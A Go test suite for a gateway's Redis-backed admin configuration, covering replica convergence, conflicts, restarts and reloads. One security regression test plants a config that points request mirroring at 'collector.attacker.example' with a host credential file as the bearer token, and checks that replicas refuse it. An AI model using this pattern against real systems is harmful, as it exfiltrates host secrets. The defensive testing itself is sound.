package admin

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/infera/infera/config"
	"github.com/infera/infera/internal/testsrv"
	"github.com/redis/go-redis/v9"
)

// redisServer is a real redis-server on a free loopback port, without
// persistence (a restart loses everything: the hardest case), behind a
// testsrv.Front that holds the port clients dial for the whole test; each
// start runs the server on a fresh port of its own behind it. A restart on
// the server's own port could lose it to another test's server in the
// instant between the stop and the start (go test -p).
type redisServer struct {
	t     testing.TB
	port  int    // the front's: what clients dial
	dir   string // its data (an RDB there is loaded at start)
	cmd   *exec.Cmd
	front *testsrv.Front
}

func startRedis(t testing.TB) *redisServer {
	t.Helper()
	if _, err := exec.LookPath("redis-server"); err != nil {
		if os.Getenv("INFERA_REQUIRE_SERVERS") == "1" {
			t.Fatal("redis-server not installed (apt-get install -y redis-server)")
		}
		t.Skip("redis-server not installed (apt-get install -y redis-server); INFERA_REQUIRE_SERVERS=1 makes this a failure")
	}
	f := testsrv.NewFront(t)
	r := &redisServer{t: t, port: f.Port, dir: t.TempDir(), front: f}
	r.start()
	t.Cleanup(r.stop)
	return r
}

// start starts the server on a fresh port, with the RDB in r.dir if there
// is one, and puts it behind the front.
func (r *redisServer) start() {
	r.t.Helper()
	for attempt := 0; ; attempt++ {
		port := testsrv.FreePort(r.t)
		addr := "127.0.0.1:" + strconv.Itoa(port)
		r.cmd = exec.Command("redis-server", "--port", strconv.Itoa(port), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no", "--dir", r.dir)
		r.cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL} // no orphan if the test binary dies
		if err := r.cmd.Start(); err != nil {
			r.t.Fatal(err)
		}
		c := redis.NewClient(&redis.Options{Addr: addr, MaxRetries: -1})
		var pid string
		for i := 0; i <= 100; i++ {
			if info, err := c.Info(context.Background(), "server").Result(); err == nil {
				pid = info
				break
			}
			time.Sleep(50 * time.Millisecond)
		}
		c.Close()
		// The server answering must be this one, not another process
		// that took the fresh port first (then this one exited).
		if strings.Contains(pid, "process_id:"+strconv.Itoa(r.cmd.Process.Pid)+"\r") {
			r.front.Up(addr)
			return
		}
		r.cmd.Process.Kill()
		r.cmd.Wait()
		r.cmd = nil
		if attempt == 3 {
			r.t.Fatal("redis-server did not start")
		}
	}
}

// stop kills the server (a crash: nothing saved): connecting is refused
// until the next start, and the connections clients had end.
func (r *redisServer) stop() {
	if r.cmd != nil && r.cmd.Process != nil {
		r.front.Down()
		r.cmd.Process.Kill()
		r.cmd.Wait()
		r.cmd = nil
	}
}

func (r *redisServer) restart() {
	r.stop()
	r.start()
}

func (r *redisServer) addr() string { return fmt.Sprintf("127.0.0.1:%d", r.port) }
func (r *redisServer) url() string  { return "redis://" + r.addr() + "/0" }

// eventually polls cond for up to d.
func eventually(t *testing.T, d time.Duration, what string, cond func() bool) time.Duration {
	t.Helper()
	start := time.Now()
	for !cond() {
		if time.Since(start) > d {
			t.Fatalf("%s: not within %v", what, d)
		}
		time.Sleep(10 * time.Millisecond)
	}
	return time.Since(start)
}

func TestRedisReplicasConverge(t *testing.T) {
	rs := startRedis(t)
	a := newEnv(t, envOpts{state: rs.url(), file: proxiesDoc})
	b := newEnv(t, envOpts{state: rs.url()})
	// B started against a seeded Redis: it serves A's data, not defaults.
	if len(b.store.Load().SplitProxy.Proxies) != 3 || b.store.Load().SplitProxy.Proxies[1].APIKey.Reveal() != "sk-secret-a-111" {
		t.Fatalf("replica B did not load the shared data: %+v", b.store.Load().SplitProxy)
	}
	// Secrets are sealed in Redis.
	c := redis.NewClient(&redis.Options{Addr: rs.addr()})
	defer c.Close()
	doc, err := c.HGet(context.Background(), "infera:admin:data", "doc").Result()
	if err != nil || strings.Contains(doc, "sk-secret") || !strings.Contains(doc, sealedPrefix) {
		t.Fatalf("Redis holds %q (%v)", doc, err)
	}
	// A write on A reaches B within a second, through pub/sub.
	a.put("session_affinity", `{"enabled":true,"require_session_id":true}`, 200)
	eventually(t, time.Second, "replica B adopts A's write", func() bool { return b.store.Load().SessionAffinity.RequireSessionID })
	if a.store.Version() != b.store.Version() || a.etag() != b.etag() {
		t.Fatalf("versions differ: %d %d", a.store.Version(), b.store.Version())
	}
	// B's audit names the other replica.
	if en := b.a.audit.list(1); len(en) != 1 || en[0].Who != "another replica (redis)" {
		t.Fatalf("B's audit: %+v", en)
	}
	// An operator on B with an ETag from before A's next write conflicts.
	tagB := b.etag()
	a.put("load_balancing", `{"algorithm":"round-robin"}`, 200)
	eventually(t, time.Second, "B adopts", func() bool { return b.store.Load().LoadBalancing.Algorithm == "round-robin" })
	if r := b.do("PUT", "/api/config/load_balancing", `{"algorithm":"least-tokens"}`, "If-Match", tagB); r.status != 409 {
		t.Fatalf("stale write on B: %d %s", r.status, r.body)
	}
	// A write that lands in Redis between B's read and B's commit is a
	// conflict too (the compare-and-set is in Redis, not in B's memory).
	cfg, v := b.store.Current()
	a.put("debug", `{"decision_header":true}`, 200)
	if _, err := b.a.st.commit(cfg, v, actor{Who: "test"}, false); err == nil {
		t.Fatal("commit on a stale version succeeded in Redis")
	}
	// Users created on one replica authenticate on the other's config.
	if r := b.do("POST", "/api/users", `{"name":"dave"}`); r.status != 201 {
		t.Fatalf("create user on B: %d %s", r.status, r.body)
	}
	eventually(t, time.Second, "A sees B's user", func() bool { return len(a.store.Load().Users) == 1 })
}

// writeBehindReplicas stores in Redis e's config with the decision header
// turned on, one version up, the way another replica writes, but without
// the message that announces it. It returns e's config and version before.
func writeBehindReplicas(t *testing.T, rs *redisServer, e *env) (*config.Config, uint64) {
	t.Helper()
	cfg, v := e.store.Current()
	next := *cfg
	next.Debug.DecisionHeader = true
	data, _ := e.a.seal.encodeSealed(&next)
	c := redis.NewClient(&redis.Options{Addr: rs.addr()})
	defer c.Close()
	if err := c.HSet(context.Background(), "infera:admin:data", "doc", string(data), "version", v+1).Err(); err != nil {
		t.Fatal(err)
	}
	return cfg, v
}

func TestRedisLostMessagesAreCaughtByTheVersionCheck(t *testing.T) {
	rs := startRedis(t)
	a := newEnv(t, envOpts{state: rs.url()})
	b := newEnv(t, envOpts{state: rs.url()})
	// Change the data behind the replicas' backs, without a message.
	writeBehindReplicas(t, rs, a)
	for _, e := range []*env{a, b} {
		eventually(t, 2*time.Second, "periodic version check", func() bool { return e.store.Load().Debug.DecisionHeader })
	}
}

func TestRedisRestartWithoutPersistence(t *testing.T) {
	rs := startRedis(t)
	a := newEnv(t, envOpts{state: rs.url()})
	b := newEnv(t, envOpts{state: rs.url()})
	a.put("load_balancing", `{"algorithm":"round-robin"}`, 200)
	eventually(t, time.Second, "B adopts", func() bool { return b.store.Load().LoadBalancing.Algorithm == "round-robin" })

	rs.stop()
	// While Redis is down, writes fail cleanly and both keep serving.
	if r := a.do("PUT", "/api/config/debug", `{"decision_header":true}`, "If-Match", a.etag()); r.status != 503 {
		t.Fatalf("write without Redis: %d %s", r.status, r.body)
	}
	if a.store.Load().LoadBalancing.Algorithm != "round-robin" || a.store.Load().Debug.DecisionHeader {
		t.Fatal("data changed while Redis was down")
	}
	rs.restart() // empty: no persistence
	c := redis.NewClient(&redis.Options{Addr: rs.addr()})
	defer c.Close()
	eventually(t, 5*time.Second, "a replica puts its copy back", func() bool {
		doc, err := c.HGet(context.Background(), "infera:admin:data", "doc").Result()
		return err == nil && strings.Contains(doc, "round-robin")
	})
	// Writes work again and still converge (pub/sub resubscribed).
	eventually(t, 5*time.Second, "write after the restart", func() bool {
		return a.do("PUT", "/api/config/debug", `{"decision_header":true}`, "If-Match", a.etag()).status == 200
	})
	eventually(t, 2*time.Second, "B converges after the restart", func() bool { return b.store.Load().Debug.DecisionHeader })
	if b.store.Load().LoadBalancing.Algorithm != "round-robin" {
		t.Fatal("B lost earlier data")
	}
}

func TestHandEditWithRedisBecomesASharedWrite(t *testing.T) {
	rs := startRedis(t)
	a := newEnv(t, envOpts{state: rs.url(), file: `{}`})
	b := newEnv(t, envOpts{state: rs.url()})
	if err := os.WriteFile(a.path, []byte(`{"load_balancing":{"algorithm":"least-tokens"}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	if ok, err := a.store.Reload(); !ok || err != nil {
		t.Fatalf("reload: %v %v", ok, err)
	}
	eventually(t, time.Second, "A serves its hand edit", func() bool { return a.store.Load().LoadBalancing.Algorithm == "least-tokens" })
	eventually(t, time.Second, "B gets A's hand edit", func() bool { return b.store.Load().LoadBalancing.Algorithm == "least-tokens" })
	// API writes with Redis do not touch the file.
	a.put("debug", `{"decision_header":true}`, 200)
	data, _ := os.ReadFile(a.path)
	if strings.Contains(string(data), "decision_header") {
		t.Fatal("an API write with Redis rewrote the config file")
	}
}

func TestImportToRedisFromASnapshotDirectory(t *testing.T) {
	// Built-in storage with snapshots...
	dir := t.TempDir()
	e := newEnv(t, envOpts{snapshotDir: dir})
	e.put("load_balancing", `{"algorithm":"round-robin"}`, 200)
	exp := string(e.do("GET", "/api/backup/export", "").body)
	e.a.Close()
	// ...migrates into an empty Redis at start...
	rs := startRedis(t)
	a := newEnv(t, envOpts{state: rs.url(), snapshotDir: dir})
	if a.store.Load().LoadBalancing.Algorithm != "round-robin" || a.a.snaps != nil {
		t.Fatal("Redis not seeded from the newest snapshot, or snapshots still on")
	}
	// ...or through Import to Redis, which every replica takes.
	b := newEnv(t, envOpts{state: rs.url()})
	a.put("load_balancing", `{"algorithm":"least-tokens"}`, 200)
	if r := a.do("POST", "/api/backup/import", exp); r.status != 200 || !strings.Contains(string(r.body), `"storage":"redis"`) {
		t.Fatalf("import to redis: %d %s", r.status, r.body)
	}
	eventually(t, time.Second, "B takes the import", func() bool { return b.store.Load().LoadBalancing.Algorithm == "round-robin" })
}

func TestRedisUnreachableAtStartFailsClearly(t *testing.T) {
	ln, _ := net.Listen("tcp", "127.0.0.1:0")
	addr := ln.Addr().String()
	ln.Close()
	_, err := New(Options{Store: newEnvStore(), State: "redis://" + addr, RedisStartTimeout: 300 * time.Millisecond})
	if err == nil || !strings.Contains(err.Error(), "cannot reach Redis") {
		t.Fatalf("got %v", err)
	}
	if _, err := New(Options{Store: newEnvStore(), State: "mysql://x"}); err == nil {
		t.Fatal("unknown state URL accepted")
	}
}

// A write without If-Match on a replica that has not yet heard of another
// replica's write is applied on top of it: the conflict in Redis makes the
// replica adopt the latest data and retry, instead of answering 409.
func TestRedisUnconditionalWriteOnAStaleReplicaAppliesOnTheLatestData(t *testing.T) {
	rs := startRedis(t)
	b := newEnv(t, envOpts{state: rs.url()})
	// Another replica's write, without its message: b is stale until its
	// next periodic check (200 ms here).
	cfg, v := writeBehindReplicas(t, rs, b)
	if r := b.do("POST", "/api/users", `{"name":"erin"}`); r.status != 201 {
		t.Fatalf("create user on a stale replica: %d %s", r.status, r.body)
	}
	got := b.store.Load()
	if len(got.Users) != 1 || !got.Debug.DecisionHeader || b.store.Version() != v+2 {
		t.Fatalf("after the write: %d users, decision header %v, version %d (want 1, true, %d)",
			len(got.Users), got.Debug.DecisionHeader, b.store.Version(), v+2)
	}
	// A conditional write with the stale ETag still conflicts.
	stale := b.a.etag(cfg, v)
	if r := b.do("PUT", "/api/config/load_balancing", `{"algorithm":"round-robin"}`, "If-Match", stale); r.status != 409 {
		t.Fatalf("stale If-Match: %d %s", r.status, r.body)
	}
}

// Creations without If-Match on two replicas at once all land: each one
// that loses the compare-and-set in Redis adopts the winner's data and
// tries again (it used to give up with 409 after four losses).
func TestRedisConcurrentCreationsOnTwoReplicasAllLand(t *testing.T) {
	rs := startRedis(t)
	a := newEnv(t, envOpts{state: rs.url()})
	b := newEnv(t, envOpts{state: rs.url()})
	const each = 15
	var wg sync.WaitGroup
	codes := make(chan string, 2*each)
	for i := 0; i < each; i++ {
		for _, e := range []*env{a, b} {
			name := fmt.Sprintf("u%d-%p", i, e)
			wg.Add(1)
			go func() {
				defer wg.Done()
				if r := e.do("POST", "/api/users", `{"name":"`+name[:min(len(name), 40)]+`"}`); r.status != 201 {
					codes <- fmt.Sprintf("%s: %d %s", name, r.status, r.body)
				}
			}()
		}
	}
	wg.Wait()
	close(codes)
	for c := range codes {
		t.Error(c)
	}
	eventually(t, 2*time.Second, "both replicas hold every user", func() bool {
		return len(a.store.Load().Users) == 2*each && len(b.store.Load().Users) == 2*each
	})
}

// Whoever can write to Redis cannot make the replicas read a host file or
// variable: a secret reference in the stored document is taken only where
// the replica's own config holds it at the same entry and address. A
// writer set mirror.auth_token to file:<any host file> with a
// target_address of its own, and every replica read the file and sent it
// as the bearer token of every mirrored request.
func TestARedisWriterCannotMakeReplicasReadHostFiles(t *testing.T) {
	rs := startRedis(t)
	e := newEnv(t, envOpts{state: rs.url()})
	hostFile := filepath.Join(t.TempDir(), "service-account-token")
	if err := os.WriteFile(hostFile, []byte("host-only-credential-4711"), 0o600); err != nil {
		t.Fatal(err)
	}
	v := writeRedisDoc(t, e, rs, func(doc map[string]any) {
		doc["mirror"] = map[string]any{"enabled": true, "target_address": "http://collector.attacker.example",
			"sampling_ratio": 100, "auth_token": "file:" + hostFile}
	})
	time.Sleep(600 * time.Millisecond) // three sync intervals
	if m := e.store.Load().Mirror; m.AuthToken.Reveal() == "host-only-credential-4711" || m.Enabled || e.store.Version() >= v {
		t.Fatalf("a document written to Redis was taken (version %d of %d): mirror %v to %s", e.store.Version(), v, m.Enabled, m.TargetAddress)
	}
}

// A reference the replica's config file holds, at the same entry and
// address, goes through Redis as a reference and is taken back: replicas
// sharing a config file share its references.
func TestAReferenceTheConfigFileHoldsGoesThroughRedis(t *testing.T) {
	rs := startRedis(t)
	tok := filepath.Join(t.TempDir(), "mirror-token")
	if err := os.WriteFile(tok, []byte("mirror-token-0815"), 0o600); err != nil {
		t.Fatal(err)
	}
	file := `{"mirror": {"enabled": true, "target_address": "http://127.0.0.1:9", "sampling_ratio": 1, "auth_token": "file:` + tok + `"}}`
	e := newEnv(t, envOpts{state: rs.url(), file: file})
	v := writeRedisDoc(t, e, rs, func(doc map[string]any) {
		doc["mirror"].(map[string]any)["sampling_ratio"] = json.Number("2")
	})
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) && e.store.Version() < v {
		time.Sleep(20 * time.Millisecond)
	}
	if m := e.store.Load().Mirror; e.store.Version() < v || m.SamplingRatio != 2 || m.AuthToken.Reveal() != "mirror-token-0815" {
		t.Fatalf("version %d of %d: sampling %v, token set %v", e.store.Version(), v, m.SamplingRatio, m.AuthToken.IsSet())
	}
}

// writeRedisDoc writes e's current document, edited by edit, to Redis as
// the next version, as another replica (or anyone who can write to Redis)
// would, and announces it; it returns the version.
func writeRedisDoc(t *testing.T, e *env, rs *redisServer, edit func(map[string]any)) uint64 {
	t.Helper()
	cfg, v := e.store.Current()
	data, err := e.a.seal.encodeSealed(cfg)
	if err != nil {
		t.Fatal(err)
	}
	doc, err := decodeDoc(data)
	if err != nil {
		t.Fatal(err)
	}
	edit(doc)
	out, _ := json.Marshal(doc)
	c := redis.NewClient(&redis.Options{Addr: rs.addr()})
	defer c.Close()
	if err := c.HSet(context.Background(), "infera:admin:data", "doc", string(out), "version", v+1).Err(); err != nil {
		t.Fatal(err)
	}
	c.Publish(context.Background(), "infera:admin:changes", v+1)
	return v + 1
}

// A SIGHUP with the config file unchanged (log rotation, a certificate
// renewal: systemctl reload) reads the file's secret references again, a
// rotated key, and nothing else: with the data in Redis, the file's content
// is no change of it. It was handed to Redis as one, so the users, keys and
// settings made through the API since were gone on every replica (and with
// no users left, the inference endpoints took requests without a key).
func TestASIGHUPOnAnUnchangedConfigFileKeepsTheRedisData(t *testing.T) {
	rs := startRedis(t)
	tok := filepath.Join(t.TempDir(), "mirror-token")
	if err := os.WriteFile(tok, []byte("mirror-token-one"), 0o600); err != nil {
		t.Fatal(err)
	}
	file := `{"mirror": {"enabled": true, "target_address": "http://127.0.0.1:9", "sampling_ratio": 1, "auth_token": "file:` + tok + `"}}`
	e := newEnv(t, envOpts{state: rs.url(), file: file})
	b := newEnv(t, envOpts{state: rs.url(), file: file}) // replicas share the config file
	if r := e.do("POST", "/api/users", `{"name":"alice"}`); r.status != 201 {
		t.Fatalf("create user: %d %s", r.status, r.body)
	}
	e.put("session_affinity", `{"ttl_s":42}`, 200)
	v := e.store.Version()
	eventually(t, 3*time.Second, "replica B adopts the writes", func() bool { return b.store.Version() == v })

	if err := os.WriteFile(tok, []byte("mirror-token-two"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := e.store.ReloadAsked(); err != nil {
		t.Fatal(err)
	}
	if got := e.store.Load().Mirror.AuthToken.Reveal(); got != "mirror-token-two" {
		t.Fatalf("mirror token after SIGHUP %q, want the rotated one", got)
	}
	time.Sleep(500 * time.Millisecond) // the other replica's sync interval is 200 ms
	for name, r := range map[string]*env{"the replica sent SIGHUP": e, "the other replica": b} {
		c := r.store.Load()
		if _, ok := findUser(c, "alice"); !ok || c.SessionAffinity.TTLSeconds != 42 {
			t.Fatalf("%s lost the API's changes: users %d, ttl_s %v (version %d, was %d)", name, len(c.Users), c.SessionAffinity.TTLSeconds, r.store.Version(), v)
		}
	}
	cl := redis.NewClient(&redis.Options{Addr: rs.addr()})
	defer cl.Close()
	doc, err := cl.HGet(context.Background(), "infera:admin:data", "doc").Result()
	if err != nil || !strings.Contains(doc, `"alice"`) {
		t.Fatalf("Redis lost the user: %v", err)
	}
}

// A write Redis does not answer in time (a stalled server, a reply lost on
// the way) is not known to have failed: Redis may run it once it goes on,
// and the replicas then adopt it. The 503 says so; it said only
// "management storage unavailable", which the docs read as "the write was
// not applied", and the write landed (as here) once Redis resumed.
func TestAWriteRedisDidNotAnswerInTimeSaysItMayStillLand(t *testing.T) {
	rs := startRedis(t)
	// No version poll holds the pooled connection when Redis stops, so the
	// write goes out on it (a new connection's handshake would stall first).
	e := newEnv(t, envOpts{state: rs.url(), syncInterval: time.Minute})
	e.put("session_affinity", `{"ttl_s":66}`, 200) // Redis has the script: the next write is one EVALSHA
	// The write's own notification makes the replica read the version;
	// stopped during that read, Redis would hold the pooled connection
	// and the write would wait for a new one's handshake, never sent (the
	// test then failed about one run in three).
	time.Sleep(300 * time.Millisecond)
	if err := rs.cmd.Process.Signal(syscall.SIGSTOP); err != nil {
		t.Fatal(err)
	}
	resumed := false
	resume := func() {
		if !resumed {
			resumed = true
			rs.cmd.Process.Signal(syscall.SIGCONT)
		}
	}
	defer resume()
	r := e.do("PATCH", "/api/config/session_affinity", `{"ttl_s":77}`, "If-Match", "*")
	resume()
	if _, msg := r.errPath(t); r.status != 503 || !strings.Contains(msg, "may still be applied") {
		t.Fatalf("write Redis did not answer: %d %q", r.status, msg)
	}
	// The replica learns it through its subscription, which the stall may
	// have broken (reconnected with a backoff): allow for that under load
	// (3 s was missed once in a full make test).
	eventually(t, 10*time.Second, "the write lands once Redis goes on", func() bool { return e.store.Load().SessionAffinity.TTLSeconds == 77 })

	rs.stop() // down: refused at once, and never applied
	r = e.do("PATCH", "/api/config/session_affinity", `{"ttl_s":88}`, "If-Match", "*")
	if _, msg := r.errPath(t); r.status != 503 || strings.Contains(msg, "may still be applied") {
		t.Fatalf("write with Redis down: %d %q", r.status, msg)
	}
}

// A write that loses to a version in Redis this replica cannot load (a
// newer build's setting, another seal key, a hand edit of Redis) is
// refused at once, saying why: no retry can succeed. It retried for 10 s
// and answered "changed in Redis by another replica: reload and retry",
// which the client did, to the same answer, forever.
func TestAWriteOverRedisDataThisReplicaCannotLoadSaysSoAtOnce(t *testing.T) {
	rs := startRedis(t)
	e := newEnv(t, envOpts{state: rs.url()})
	logs := captureLogs(t) // before the write: the replica may read it at once
	v := writeRedisDoc(t, e, rs, func(doc map[string]any) { doc["a_newer_setting"] = true })
	eventually(t, 3*time.Second, "the replica reads the version", func() bool {
		return strings.Contains(logs.String(), "does not load")
	})
	start := time.Now()
	r := e.do("PATCH", "/api/config/session_affinity", `{"ttl_s":77}`, "If-Match", "*")
	_, msg := r.errPath(t)
	if took := time.Since(start); r.status != 409 || took > 5*time.Second ||
		!strings.Contains(msg, fmt.Sprintf("version %d", v)) || !strings.Contains(msg, "a_newer_setting") {
		t.Fatalf("write over version %d it cannot load: %d after %v: %q", v, r.status, took, msg)
	}
	if e.store.Load().SessionAffinity.TTLSeconds == 77 {
		t.Fatal("the write was applied")
	}
}

// With --state redis the startup sections (llm_gateway, storage) cannot
// change through the API: the start reads them from the config file, and
// API writes go to Redis only. A change was stored in Redis and logged as
// taking "effect at the next start", which never came.
func TestStartupSectionsCannotChangeThroughRedis(t *testing.T) {
	rs := startRedis(t)
	e := newEnv(t, envOpts{state: rs.url(), file: `{}`})
	r := e.put("llm_gateway", `{"persist_snapshot_dir":"/tmp/x"}`, 409)
	if !strings.Contains(string(r.body), "--state redis") {
		t.Fatalf("llm_gateway through Redis: %s", r.body)
	}
	var f snapshotFile
	json.Unmarshal(e.do("GET", "/api/backup/export", "").body, &f)
	f.SHA256 = ""
	f.Config = json.RawMessage(`{"llm_gateway":{"persist_snapshot_dir":"/tmp/x"},"debug":{"decision_header":true}}`)
	body, _ := json.Marshal(f)
	if r := e.do("POST", "/api/backup/import", string(body)); r.status != 200 {
		t.Fatalf("import: %d %s", r.status, r.body)
	}
	if c := e.store.Load(); c.LLMGateway.PersistSnapshotDir != "" || !c.Debug.DecisionHeader {
		t.Fatalf("import through Redis: llm_gateway %+v, debug %+v", c.LLMGateway, c.Debug)
	}
}

// go-redis resubscribes on its own after its subscription connection
// breaks, and what was published meanwhile is lost: the resubscription
// itself makes the replica compare versions. A newer version that came
// while it was not subscribed (written here without a notification)
// waited for the next poll (a minute here; SyncInterval in general).
func TestAResubscribedReplicaLearnsAWriteItsSubscriptionMissed(t *testing.T) {
	rs := startRedis(t)
	e := newEnv(t, envOpts{state: rs.url(), syncInterval: time.Minute})
	e.put("session_affinity", `{"ttl_s":66}`, 200)
	v := e.store.Version()
	cl := redis.NewClient(&redis.Options{Addr: rs.addr()})
	defer cl.Close()
	ctx := context.Background()
	if err := cl.HSet(ctx, "infera:admin:data", "version", v+1).Err(); err != nil {
		t.Fatal(err)
	}
	if err := cl.Do(ctx, "CLIENT", "KILL", "TYPE", "pubsub").Err(); err != nil {
		t.Fatal(err)
	}
	eventually(t, 5*time.Second, "the replica adopts the version its subscription missed", func() bool { return e.store.Version() == v+1 })
}
